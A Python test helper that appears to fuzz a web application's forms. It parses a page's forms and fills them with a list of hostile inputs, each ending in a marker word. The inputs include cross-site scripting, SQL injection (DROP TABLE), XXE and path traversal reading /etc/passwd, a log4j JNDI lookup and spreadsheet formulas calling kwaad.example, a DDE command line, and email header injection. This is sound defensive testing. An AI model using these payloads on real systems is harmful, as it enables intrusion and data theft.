"""Texts made to hurt, and what a page says of a form: its fields and what to fill in so that it goes through."""

from dataclasses import dataclass, field
from html.parser import HTMLParser

MARK = "Kwartelkoning"  # ends every text: where it shows, the whole text must stand before it
STARTS = {
    "formula": '=HYPERLINK("http://kwaad.example";"x")', "plus": "+1+1", "minus": "-2+3", "at": "@SUM(A1)", "tab formula": "\t=1+1",
    "return formula": "\r=1+1", "dde": "=cmd|' /C calc'!A0", "wide formula": "＝1+1", "quoted formula": "'=1+1",
    "hidden formula": " \u00a0=1+1", "script": "<script>alert(1)</script>", "attribute": '" onmouseover="alert(1)',
    "closing": "'></title></textarea><svg onload=alert(1)>", "comment": "<!-- <b>", "entity": "&lt;b&gt; &amp;amp; &#x41;",
    "xml entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;', "cdata": "]]><a/>", "javascript": "javascript:alert(1)",
    "data": "data:text/html,<b>", "template": "{{ 7*7 }}", "statement": "{% raw %}", "dollar": "${7*7} #{7*7} <%= 7*7 %>",
    "log4j": "${jndi:ldap://kwaad.example/a}", "sql": "'; DROP TABLE person; --", "like": "100%_\\", "percent": "%s %(x)s %n %d",
    "braces": "{0} {a.__class__}", "path": "../../../../etc/passwd", "windows path": "..\\..\\win.ini\\CON",
    "header": "Els\r\nBcc: allen@kwaad.example", "line feed": "Els\nBcc: allen@kwaad.example", "nul": "a\x00b", "bell": "a\x07\x1b[31mb",
    "delete": "a\x7f\x85b", "right to left": "\u202egnp.exe", "isolate": "\u2066a\u2069\u202c", "zero width": "a\u200bb\ufeffc",
    "arabic": "محمد العربي", "hebrew": "דוד כהן", "emoji": "👩\u200d👩\u200d👧 🏳️\u200d🌈", "combining": "Z" + "\u0351\u0307" * 40,
    "dotless": "İıŞğ ẞ ﬁ", "not a character": "a\ufffe\uffffb", "outside": "𝕏\U0010fffd",
    "paragraph": '<para><img src="file:///etc/passwd"/>', "long": "x" * 10_000,
}  # fmt: skip
TEXTS = {name: f"{start} {MARK}" for name, start in STARTS.items()}
SPACES = {9, 10, 13}
UNSEEN = {*range(32), *range(127, 160), *range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xD800, 0xE000), 0xFFFE, 0xFFFF} - SPACES


def bare(text):
    """What is left of a text when white space counts once and signs that nobody sees do not count."""
    return " ".join("".join(sign for sign in text if ord(sign) not in UNSEEN).split())


ADDRESSES = {"href", "action", "formaction", "src"}


@dataclass
class Form:
    """One form of a page: where it goes, what it sends as it stands, and the fields into which people write."""

    action: str
    method: str
    values: dict = field(default_factory=dict)
    texts: dict = field(default_factory=dict)  # name: type
    choices: dict = field(default_factory=dict)


class Page(HTMLParser):
    """The forms of a page, and every text and attribute on it."""

    def __init__(self, markup):
        super().__init__()
        self.forms, self.said, self.addresses, self.tags, self.names = [], [], [], set(), {}
        self._select = self._textarea = self._form = None
        self.feed(markup)

    def handle_starttag(self, tag, attributes):
        a = dict(attributes)
        self.said += [value or "" for name, value in attributes if name not in ADDRESSES]
        self.addresses += [value or "" for name, value in attributes if name in ADDRESSES]
        self.tags |= {tag, *(name for name, _ in attributes if name.startswith("on"))}
        if tag == "form":
            self._form = Form(a.get("action") or "", a.get("method", "get").lower())
            self.names[a.get("id")] = self._form
            self.forms.append(self._form)
        form = self.names.get(a["form"]) if "form" in a else self._form
        if form is not None and "formaction" in a:
            form.action = a["formaction"]
        if form is not None and a.get("name"):
            self._take(form, tag, a)
        if tag == "option" and self._select:
            self._select[0].choices.setdefault(self._select[1], []).append(a.get("value", ""))
            if "selected" in a:
                self._select[0].values[self._select[1]] = a.get("value", "")

    def _take(self, form, tag, a):
        name, kind = a["name"], a.get("type", "text") if tag == "input" else tag
        if kind in {"radio", "checkbox"}:
            form.choices.setdefault(name, []).append(a.get("value", "y"))
            if "checked" in a:
                form.values[name] = a.get("value", "y")
        elif tag == "select":
            self._select = (form, name)
        elif tag == "textarea":
            form.texts[name], form.values[name] = tag, ""
            self._textarea = (form, name)
        elif kind == "hidden":
            form.values[name] = a.get("value", "")
        elif tag == "input" and kind not in {"file", "submit", "image", "button"}:
            short = int(a.get("maxlength", 99)) < 41  # a code or a number
            form.texts[name], form.values[name] = "short" if short else a.get("inputmode", kind), a.get("value", "")
        elif tag == "button":
            form.choices.setdefault(name, []).append(a.get("value", ""))

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        if tag == "select":
            self._select = None
        if tag == "textarea":
            self._textarea = None

    def handle_data(self, data):
        self.said.append(data)
        if self._textarea:
            self._textarea[0].values[self._textarea[1]] += data


GUESSES = {"email": "bo@organisatie.example", "date": "2026-07-01", "number": "1", "password": "een lang wachtwoord 2026"}
ALONG = {  # what goes with a field so that it counts
    "remark": {"answer": "other"}, "balance": {"answer": "other"}, "question": {"answer": "reconsider"},
    "explanation": {"answer": "reject", "reason": "policy", "confirmed": "y"},
}  # fmt: skip


def filled(form, name, text):
    """The fields of a form as a person would send them, with one text in one field."""
    sent = dict(form.values)
    for other, kind in form.texts.items():
        sent[other] = sent[other] or GUESSES.get(kind, "Bo")
    for other, options in form.choices.items():
        sent.setdefault(other, next((option for option in options if option), ""))
    return sent | ALONG.get(name, {}) | {name: text}
